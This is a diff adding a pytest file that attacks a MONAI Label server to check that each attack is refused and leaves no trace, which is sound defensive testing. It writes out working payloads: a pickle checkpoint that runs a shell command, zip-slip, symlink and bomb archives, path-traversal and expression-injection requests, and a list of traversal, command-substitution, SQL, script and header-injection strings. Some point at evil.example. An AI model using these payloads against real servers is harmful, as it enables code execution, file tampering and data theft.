@@ -1,0 +1,340 @@
+"""What must not work, whoever tries it: each weakness of plain upstream, and a flood of hostile requests.
+
+`.venv/bin/python -m pytest tests/stack/test_attacks.py --plain-upstream` runs the named attacks against MONAI Label
+as it ships, where each of them gets through.
+"""
+
+import io
+import json
+import os
+import pickle
+import tarfile
+import tempfile
+import zipfile
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from typing import Any
+
+import numpy as np
+import pytest
+import requests
+import SimpleITK as sitk
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tests.conftest import Clone
+from tests.stack.annotator import Annotator
+
+SERVER = "label-server"
+REFUSED = {400, 401, 403, 404, 405, 413, 422, 429, 431}
+CLICK = {"foreground": [[181, 285, 25]], "background": [], "result_extension": ".nii.gz"}
+WHO = ("nobody", "annotator", "reviewer", "admin")
+
+
+@dataclass
+class Attacker:
+    """Sends requests to the label server as one user or as nobody."""
+
+    base: str
+    token: str = ""
+    sent: int = 0
+
+    def __call__(self, method: str, path: str, **arguments: Any) -> requests.Response:
+        """Send it as it is: no client may tidy the path up."""
+        self.sent += 1
+        headers = arguments.pop("headers", {}) | ({"Authorization": f"Bearer {self.token}"} if self.token else {})
+        request = requests.Request(method, self.base, headers=headers, **arguments).prepare()
+        request.url = f"{self.base}{path}"
+        with requests.Session() as session:
+            session.trust_env = False
+            return session.send(request, timeout=120, allow_redirects=False)
+
+
+@pytest.fixture
+def plain(request: pytest.FixtureRequest) -> bool:
+    return bool(request.config.getoption("--plain-upstream"))
+
+
+@pytest.fixture(params=WHO)
+def attacker(request: pytest.FixtureRequest, stack: Clone, plain: bool) -> Iterator[Attacker]:
+    """Each kind of user in turn; on plain upstream, which knows none, anybody."""
+    base = f"http://127.0.0.1:{stack.environment['LABEL_SERVER_PORT']}"
+    if plain:
+        if request.param != "nobody":
+            pytest.skip("plain upstream knows no users")
+        yield Attacker(base)
+    elif request.param in ("nobody", "admin"):
+        yield Attacker(base, stack.environment["LABEL_SERVER_TOKEN"] if request.param == "admin" else "")
+    else:
+        added = stack.done("users", "add", "mallory", "--role", request.param, "--json")
+        yield Attacker(base, json.loads(added)["token"])
+        stack.done("users", "revoke", "mallory")
+
+
+def files(stack: Clone) -> set[str]:
+    """Every file that counts, with size and time; logs, locks and what is looked up anew are left out.
+
+    So is upstream's copy of its logging configuration, which Python removes some time after the start.
+    """
+    find = (
+        "find /opt/labelpod /workspace /tmp -type f -not -path '*/logs/*' -not -name '*.lock'"
+        " -not -path '*/.incoming/*' -not -name 'datastore_v2.json' -not -path '/tmp/matplotlib/*'"
+        " -not -path '/tmp/tmp*.json' -not -name 'mlflow.db*' -printf '%p %s %T@\\n' 2>/dev/null"
+    )
+    return set(stack.run_in(SERVER, "bash", "-c", find).splitlines())
+
+
+def image(shape: tuple[int, int, int] = (4, 8, 8)) -> bytes:
+    """A NIfTI file."""
+    with tempfile.NamedTemporaryFile(suffix=".nii.gz") as file:
+        sitk.WriteImage(sitk.GetImageFromArray(np.zeros(shape, np.uint8)), file.name)
+        return file.read()
+
+
+def infer(send: Attacker, ct: str, **params: Any) -> requests.Response:
+    return send("POST", f"/infer/deepgrow_2d?image={ct}", data={"params": json.dumps(CLICK | params)})
+
+
+def code() -> bytes:
+    """A checkpoint that runs a command when it is unpickled without care."""
+
+    class Payload:
+        def __reduce__(self) -> tuple[Any, ...]:
+            return os.system, ("touch /tmp/pwned",)
+
+    return pickle.dumps(Payload())
+
+
+def slipping_zip() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("../../../../workspace/slipped.txt", "x")
+    return buffer.getvalue()
+
+
+def linking_tar() -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+        link = tarfile.TarInfo("link")
+        link.type, link.linkname = tarfile.SYMTYPE, "/workspace"
+        archive.addfile(link)
+    return buffer.getvalue()
+
+
+def bomb() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("zeros.bin", bytes(300 * 2**20))
+    return buffer.getvalue()
+
+
+def session(send: Attacker, name: str, content: bytes) -> requests.Response:
+    return send("PUT", "/session/?uncompress=true", files={"files": (name, content)})
+
+
+# Name -> request. Each gets through on plain upstream: it answers 200, or does what it is asked and then fails.
+ATTACKS: dict[str, Callable[[Attacker, str], requests.Response]] = {
+    "write into the app": lambda send, ct: send(
+        "PUT", "/datastore/image?image=../upstream/lib/pwned", files={"file": ("x.py", b"print(1)")}
+    ),
+    "replace an image": lambda send, ct: send(
+        "PUT", f"/datastore/image?image={ct}", files={"file": ("x.nii.gz", image())}
+    ),
+    "write a label outside": lambda send, ct: send(
+        "PUT", f"/datastore/label?image={ct}&tag=../../evil", files={"label": ("l.nii.gz", image())}
+    ),
+    "write a label outside, encoded twice": lambda send, ct: send(
+        "PUT", f"/datastore/label?image={ct}&tag=%252e%252e%252fevil", files={"label": ("l.nii.gz", image())}
+    ),
+    "save an inference outside": lambda send, ct: infer(send, ct, save_label=True, label_tag="../../evil"),
+    "read another file": lambda send, ct: (
+        infer(send, ct, image=f"/workspace/cache/{ct}/nothing.nii.gz")
+        if send.token
+        else infer(send, ct, image="/workspace/planted.nii.gz")
+    ),
+    "name the session's file": lambda send, ct: infer(send, ct, session={"path": "/etc"}),
+    "an expression for the bundle": lambda send, ct: infer(send, ct, highres="$__import__('os').getcwd()"),
+    "a component for the bundle": lambda send, ct: infer(send, ct, network={"_target_": "os.getcwd"}),
+    "a reference for the bundle": lambda send, ct: infer(send, ct, highres="@network"),
+    "replace a model by code": lambda send, ct: send("PUT", "/model/deepgrow_2d", files={"file": ("m.pt", code())}),
+    "drop the models": lambda send, ct: send("POST", "/reload"),
+    "orthanc's own interface": lambda send, ct: send("GET", "/proxy/dicom/wado/..%2fsystem"),
+    "orthanc's scripts": lambda send, ct: send("POST", "/proxy/dicom/wado/..%2ftools%2fnow", data=b""),
+    "orthanc's instances": lambda send, ct: send("GET", "/proxy/dicom/qido/..%2finstances"),
+    "a training with data of its own": lambda send, ct: send(
+        "POST", "/train/deepgrow_2d", json={"train_ds": "/etc/passwd", "max_epochs": 1}
+    ),
+    "a training that tells another server": lambda send, ct: send(
+        "POST", "/train/deepgrow_2d?enqueue=true", json={"tracking_uri": "http://evil.example", "max_epochs": 1}
+    ),
+    "a training into another folder": lambda send, ct: send(
+        "POST", "/train/deepgrow_2d?enqueue=true", json={"name": "../../evil", "max_epochs": 1}
+    ),
+    "a training with code of its own": lambda send, ct: send(
+        "POST", "/train/deepgrow_2d?enqueue=true", json={"bundle_path": "/workspace/cache", "max_epochs": 1}
+    ),
+    "an archive that unpacks a bomb": lambda send, ct: session(send, "bomb.zip", bomb()),
+    "an archive with a link": lambda send, ct: session(send, "link.tar.gz", linking_tar()),
+    "the files of the server's pages": lambda send, ct: send("GET", "/static/ohif/index.html"),
+    "the interactive pages": lambda send, ct: send("GET", "/docs"),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_attack_is_refused(stack: Clone, ct: str, plain: bool, attacker: Attacker, name: str):
+    annotator = Annotator(f"{attacker.base}/{'' if plain else stack.environment['LABEL_SERVER_TOKEN']}")
+    annotator.image(ct)
+    if name == "read another file" and plain:
+        find = "cp $(find /workspace/cache -name '*.nii.gz' | head -1) /workspace/planted.nii.gz"
+        stack.run_in(SERVER, "bash", "-c", find)
+    before = files(stack)
+    answer = ATTACKS[name](attacker, ct)
+    assert answer.status_code in REFUSED, (answer.status_code, answer.text[:300])
+    changed = sorted(files(stack) ^ before)
+    assert changed == []
+    assert attacker.token or answer.status_code in (401, 429)
+
+
+def test_no_other_origin_is_invited(stack: Clone, plain: bool, attacker: Attacker):
+    answer = attacker("GET", "/info/", headers={"Origin": "http://evil.example"})
+    assert "access-control-allow-origin" not in answer.headers
+
+
+HOSTILE = [
+    "../../../../etc/passwd",
+    "..",
+    "../",
+    "..%2f..%2fetc%2fpasswd",
+    "..%252f..%252fetc%252fpasswd",
+    "%2e%2e%2f%2e%2e%2f",
+    "..%5c..%5cwindows",
+    "..\\..\\workspace",
+    "/etc/passwd",
+    "/workspace/radiology/main.py",
+    "//evil.example/x",
+    "file:///etc/passwd",
+    "http://evil.example/",
+    "~/x",
+    "x%00.nii.gz",
+    "x%0d%0aSet-Cookie:%20a=b",
+    "$__import__('os').system('touch /tmp/pwned')",
+    "`touch /tmp/pwned`",
+    "$(touch /tmp/pwned)",
+    "{{7*7}}",
+    "' OR 1=1 --",
+    "<script>alert(1)</script>",
+    "A" * 5000,
+    "-1",
+    "NaN",
+    "\u202e\u0000\ufffd",
+]
+
+
+@dataclass
+class Operation:
+    """One operation of the server's own description, with the places where a value can be put."""
+
+    method: str
+    path: str
+    queries: list[str]
+    form: list[str]
+    json: bool
+
+
+def operations(document: dict[str, Any]) -> list[Operation]:
+    found = []
+    for path, methods in document["paths"].items():
+        for method, described in methods.items():
+            queries = [each["name"] for each in described.get("parameters", []) if each["in"] == "query"]
+            content = described.get("requestBody", {}).get("content", {})
+            form: list[str] = []
+            for kind, body in content.items():
+                if "form" in kind:
+                    reference = body["schema"].get("$ref", "").rpartition("/")[2]
+                    form = list(document["components"]["schemas"].get(reference, {}).get("properties", {}))
+            found.append(Operation(method.upper(), path, queries, form, "application/json" in content))
+    return found
+
+
+def hostile_requests(operation: Operation, value: str) -> Iterator[tuple[str, dict[str, Any]]]:
+    """The operation with the value in each of its places in turn."""
+    quoted = requests.utils.quote(value, safe="%/\\")
+    if "{" in operation.path:
+        yield operation.path.partition("{")[0] + quoted, {}
+    fixed = operation.path.replace("{model}", "deepgrow_2d").replace("{strategy}", "random")
+    fixed = fixed.replace("{session_id}", "none").replace("{method}", "dice")
+    for name in operation.queries:
+        others = "".join(f"&{each}=1" for each in operation.queries if each != name)
+        yield f"{fixed}?{name}={quoted}{others}", {}
+    for name in operation.form:
+        query = "?" + "&".join(f"{each}=1" for each in operation.queries)
+        parameters = {"params": json.dumps({"image": value, "x": [value], value: 1})}
+        yield fixed + query, {"data": parameters, "files": {name: (value[:200], b"x")}}
+    if operation.json:
+        yield fixed, {"json": {"name": value, "train_ds": value, value: value}}
+
+
+@pytest.fixture
+def untouched(stack: Clone, plain: bool, ct: str, attacker: Attacker) -> Iterator[None]:
+    """Afterwards the app, the models, Orthanc's content and the process are what they were, and it still labels."""
+    if plain:
+        pytest.skip("the named attacks are enough to ruin plain upstream")
+    token = stack.environment["LABEL_SERVER_TOKEN"]
+    annotator = Annotator(f"{attacker.base}/{token}")
+    original = annotator.image(ct)
+    before, state = files(stack), _state(stack)
+    yield
+    changed = sorted(files(stack) ^ before)
+    assert changed == []
+    assert _state(stack) == state
+    assert annotator.click("deepgrow_2d", ct, [181, 285, 25]).shape == original.GetSize()[::-1]
+
+
+def _state(stack: Clone) -> tuple[Any, ...]:
+    processes = stack.run_in(SERVER, "bash", "-c", "ps -o lstart=,args= -p $(pgrep -f '^python -m app.serve')")
+    orthanc = requests.get(
+        f"http://127.0.0.1:{stack.environment['ORTHANC_PORT']}/statistics",
+        auth=("labelpod", stack.environment["ORTHANC_PASSWORD"]),
+        timeout=30,
+    ).json()
+    return processes, {key: orthanc[key] for key in orthanc if key.startswith("Count")}
+
+
+def test_a_flood_of_hostile_requests_changes_nothing(stack: Clone, untouched: None, attacker: Attacker):
+    document = Attacker(attacker.base, stack.environment["LABEL_SERVER_TOKEN"])("GET", "/openapi.json").json()
+    bad = []
+    for operation in operations(document):
+        # What an admin may do is no attack: with these names alone it would be done.
+        for value in HOSTILE:
+            for path, arguments in hostile_requests(operation, value):
+                answer = attacker(operation.method, path, **arguments)
+                if answer.status_code >= 500 or "root:x:0" in answer.text or "class LabelServerApp" in answer.text:
+                    bad.append((operation.method, path[:120], answer.status_code, answer.text[:120]))
+    print(f"{attacker.sent} hostile requests")
+    assert not bad, bad[:10]
+    assert attacker.sent > 300
+
+
+def test_made_up_requests_change_nothing(stack: Clone, untouched: None, attacker: Attacker):
+    document = Attacker(attacker.base, stack.environment["LABEL_SERVER_TOKEN"])("GET", "/openapi.json").json()
+    known = [each for each in operations(document) if each.method != "DELETE" and not each.path.startswith("/train")]
+    text = st.text(max_size=60) | st.sampled_from(HOSTILE).flatmap(lambda one: st.text(max_size=8).map(one.__add__))
+    data = st.recursive(
+        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | text,
+        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3),
+        max_leaves=8,
+    )
+
+    @settings(max_examples=80, deadline=None, suppress_health_check=list(HealthCheck), database=None)
+    @given(st.sampled_from(known), text, data)
+    def check(operation: Operation, value: str, nested: Any) -> None:
+        for path, arguments in hostile_requests(operation, value):
+            if "data" in arguments:
+                arguments["data"] = {"params": json.dumps(nested), "info": json.dumps(nested)}
+            elif "json" in arguments:
+                arguments["json"] = nested
+            answer = attacker(operation.method, path, **arguments)
+            assert answer.status_code < 500, (operation.method, path, answer.text[:200])
+
+    check()
+    assert attacker.sent > 75
